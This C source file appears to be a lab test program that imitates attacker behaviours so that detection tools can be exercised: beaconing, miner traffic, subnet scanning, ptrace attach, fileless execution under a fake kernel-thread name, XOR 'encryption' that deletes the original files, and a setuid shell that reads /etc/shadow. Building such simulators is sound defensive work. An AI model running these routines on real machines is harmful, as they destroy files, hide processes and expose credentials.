/* The one foreign program of the lab: what it does is its first argument. It harms nothing outside its container.
 *
 *   beacon HOST PORT [N]   connects N times, half a second apart, and says hello
 *   listen PORT            listens for three seconds
 *   mine HOST PORT         connects and burns a second of processor time
 *   scan A.B.C PORTS...    connects to .1 to .20 on each port
 *   attach PID             attaches to a process and detaches again
 *   memory ARGS...         copies itself into memory and runs itself from there with ARGS
 *   encrypt FILE...        writes each file anew, scrambled, and removes the old one
 *   root                   becomes root if it is set-user-id
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int open_to(const char *host, int port, int wait_ms) {
    struct sockaddr_in to = {AF_INET, htons(port)};
    inet_pton(AF_INET, host, &to.sin_addr);
    int s = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    connect(s, (void *)&to, sizeof to);
    struct pollfd ready = {s, POLLOUT};
    poll(&ready, 1, wait_ms);
    return s;
}

int main(int argc, char **argv) {
    const char *what = argc > 1 ? argv[1] : "";
    if (!strcmp(what, "beacon")) {
        for (int n = argc > 4 ? atoi(argv[4]) : 3; n; n--) {
            int s = open_to(argv[2], atoi(argv[3]), 1000);
            if (write(s, "hello\n", 6) < 0) perror("beacon");
            close(s);
            usleep(500000);
        }
    } else if (!strcmp(what, "listen")) {
        struct sockaddr_in at = {AF_INET, htons(atoi(argv[2]))};
        int s = socket(AF_INET, SOCK_STREAM, 0);
        if (bind(s, (void *)&at, sizeof at) || listen(s, 8)) perror("listen");
        sleep(3);
    } else if (!strcmp(what, "mine")) {
        int s = open_to(argv[2], atoi(argv[3]), 1000);
        if (write(s, "{\"method\":\"login\"}\n", 19) < 0) perror("mine");
        for (clock_t end = clock() + CLOCKS_PER_SEC; clock() < end;) {}
    } else if (!strcmp(what, "scan")) {
        for (int p = 3; p < argc; p++)
            for (int n = 1; n <= 20; n++) {
                char host[64];
                snprintf(host, sizeof host, "%s.%d", argv[2], n);
                close(open_to(host, atoi(argv[p]), 20));
            }
    } else if (!strcmp(what, "attach")) {
        int pid = atoi(argv[2]);
        if (ptrace(PTRACE_ATTACH, pid, 0, 0)) { perror("attach"); return 1; }
        waitpid(pid, 0, 0);
        ptrace(PTRACE_DETACH, pid, 0, 0);
    } else if (!strcmp(what, "memory")) {
        int from = open("/proc/self/exe", O_RDONLY), to = memfd_create("", 0);
        char buffer[65536];
        for (long n; (n = read(from, buffer, sizeof buffer)) > 0;) if (write(to, buffer, n) < 0) return 1;
        argv[1] = "[kworker/0:1]";
        fexecve(to, argv + 1, environ);
        perror("memory");
    } else if (!strcmp(what, "encrypt")) {
        for (int n = 2; n < argc; n++) {
            char name[4096], byte;
            snprintf(name, sizeof name, "%s.locked", argv[n]);
            int from = open(argv[n], O_RDONLY), to = open(name, O_CREAT | O_WRONLY, 0600);
            while (from >= 0 && read(from, &byte, 1) == 1) { byte ^= 0x5a; if (write(to, &byte, 1) < 0) return 1; }
            if (from >= 0) unlink(argv[n]);
        }
    } else if (!strcmp(what, "root")) {
        if (setgid(0) || setuid(0)) { perror("root"); return 1; }
        execl("/bin/sh", "sh", "-c", "id; cat /etc/shadow | head -n 1", (char *)0);
    } else {
        return 64;
    }
    return 0;
}
